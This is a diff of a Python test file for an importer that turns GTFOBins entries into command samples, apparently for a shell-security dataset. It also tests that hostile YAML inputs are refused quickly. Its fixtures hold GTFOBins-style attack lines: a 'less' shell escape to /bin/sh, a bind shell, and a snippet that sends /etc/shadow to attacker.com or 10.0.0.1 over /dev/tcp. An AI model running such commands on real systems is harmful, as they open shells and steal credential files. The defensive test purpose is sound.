@@ -1,5 +1,7 @@
 """The importer of GTFOBins checkouts, on small checkouts written here."""
 
+import time
+
 import pytest
 
 from aegish_dist.core.sample import Target
@@ -157,15 +159,110 @@ def test_wrong_file(checkout, text, line, field):
 
 
 def test_wrong_directory(tmp_path):
-    """What is no checkout, has the old layout, or has no commands is refused."""
+    """What is no checkout or has no commands is refused."""
     with pytest.raises(DatasetError, match="give the root of a GTFOBins checkout"):
         import_gtfobins(tmp_path)
     (tmp_path / "_gtfobins").mkdir()
     with pytest.raises(DatasetError, match="holds no samples"):
         import_gtfobins(tmp_path)
-    (tmp_path / "_gtfobins" / "tar.md").write_text("---\n---\n")
-    with pytest.raises(DatasetError, match=r"tar\.md: is of an older layout"):
-        import_gtfobins(tmp_path)
+
+
+OLDER = """description: Pages.
+functions:
+  shell:
+    - code: |
+        less /etc/profile
+        !/bin/sh
+  file-upload:
+    - description: Send it.
+      code: |
+        RHOST=attacker.com
+        RPORT=12345
+        LFILE=file_to_send
+        less "$LFILE" >/dev/tcp/$RHOST/$RPORT
+  non-interactive-bind-shell:
+    - code: less -l 12345
+  execute-non-interactive:
+    - code: TF=$(mktemp); less $TF; echo $PID
+  sudo:
+    - code: sudo less /etc/profile
+  suid:
+    - code: ./less file_to_read
+---
+Text below.
+"""
+
+
+def test_the_older_layout_is_read(checkout):
+    """Markdown with YAML at its head gives the same kind of samples, without sudo and SUID."""
+    path = checkout(**{"less.md": OLDER, "notes": "no YAML: [", ".dir-locals.el": "()"})
+    samples = import_gtfobins(path, include_root=True).samples
+    assert [(s.command, s.category, s.cluster) for s in samples] == [
+        ("less /etc/profile\n!/bin/sh", "shell", "less"),
+        (
+            'RHOST=10.0.0.1\nRPORT=4444\nLFILE=/etc/shadow\nless "$LFILE" >/dev/tcp/$RHOST/$RPORT',
+            "upload",
+            "less",
+        ),
+        ("less -l 4444", "bind-shell", "less"),
+        ("TF=$(mktemp); less $TF; echo 1", "command", "less"),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("functions: &f\n  shell: [{code: a, version: *f}]", "line 3: is not YAML: aliases"),
+        ("a: &a [x, x]\nb: &b [*a, *a]\nfunctions: {}", "line 3: is not YAML: aliases"),
+        ("functions:\n  <<: {shell: [{code: a}]}", "line 3: is not YAML: merges"),
+        (
+            "functions: {shell: [{code: a, version: 0x" + "f" * 5000 + "}]}",
+            "line 2: is not YAML: num",
+        ),
+        (
+            "functions: {shell: [{code: a, version: " + "1" * 5000 + "}]}",
+            "line 2: is not YAML: num",
+        ),
+        ("functions: {shell: [{code: a, version: !!int " + "1:" * 50 + "1}]}", "line 2: is not"),
+        ("functions: " + "[" * 100_000, "line 2: is not YAML: more than 20 levels"),
+        ("functions: {shell: [{code: " + "x" * 10_001 + "}]}", "has more than 10,000 characters"),
+        ("#" * (2**18 + 1), "larger than 0.25 MiB"),
+    ],
+)
+def test_hostile_files_are_refused_at_once(checkout, text, message):
+    """Aliases, merges, endless numbers, depth and size cost one line each."""
+    path = checkout(a="functions: {shell: [{code: a}]}", b=text)
+    start = time.perf_counter()
+    with pytest.raises(DatasetError) as caught:
+        import_gtfobins(path)
+    assert time.perf_counter() - start < 5
+    assert message in str(caught.value)
+    assert "\n" not in str(caught.value)
+
+
+def test_programs_that_all_lead_to_each_other_are_refused_in_time(checkout):
+    """There are endless ways through such a crowd; a plain circle is left where it closes."""
+    crowd = {
+        f"p{n}": "functions: {shell: [{code: x}], inherit: ["
+        + ", ".join(f"{{code: go, from: p{other}}}" for other in range(12))
+        + "]}"
+        for n in range(12)
+    }
+    start = time.perf_counter()
+    with pytest.raises(DatasetError, match="lead to more than 50,000 commands"):
+        import_gtfobins(checkout(**crowd))
+    assert time.perf_counter() - start < 20
+
+
+def test_a_circle_and_a_long_chain_of_programs_end(checkout):
+    """Inheritance ends where it comes back, and after some steps."""
+    files = {
+        f"p{n}": f"functions: {{shell: [{{code: 'p{n} a'}}],"
+        f" inherit: [{{code: 'go p{(n + 1) % 300}', from: p{(n + 1) % 300}}}]}}"
+        for n in range(300)
+    }
+    samples = by_command(import_gtfobins(checkout(**files)))
+    assert samples["go p1 a"].cluster == "p0"
 
 
 GIT_LAYOUTS = {
